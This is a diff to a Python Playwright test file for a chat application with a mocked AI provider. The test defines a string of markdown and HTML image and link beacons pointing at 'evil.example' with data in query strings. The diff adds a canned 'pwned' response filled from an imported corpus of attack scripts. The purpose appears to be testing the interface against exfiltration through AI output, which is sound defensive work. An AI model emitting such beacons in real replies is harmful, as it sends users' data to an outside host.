@@ -13,6 +13,7 @@ import pytest
 from playwright.sync_api import Browser, BrowserContext, Page, Playwright, expect, sync_playwright
 
 from tests.ai_provider import Provider, start_provider
+from tests.attacks.scripts import corpus
 from tests.chat.stored import Documents, add_room, open_database
 from tests.people import Person
 from tests.server import ROOT, Server
@@ -58,7 +59,9 @@ BEACONS = (
     "A heron stands here ![x](https://evil.example/p.png?d=42) <img src='https://evil.example/q.png'> "
     "[more](https://evil.example/?d=42) //evil.example/r https://evil.example/s"
 )
+SCRIPTS = "\n".join(corpus()[::9])[:2_500]
 ANSWERS = [
+    {"match": {"userMessage": "pwned"}, "response": {"content": SCRIPTS}},
     {
         "match": {"userMessage": '{"n": 1,'},
         "response": {"content": "- The plan is asked for [1].\n- A stand-in said [9]."},
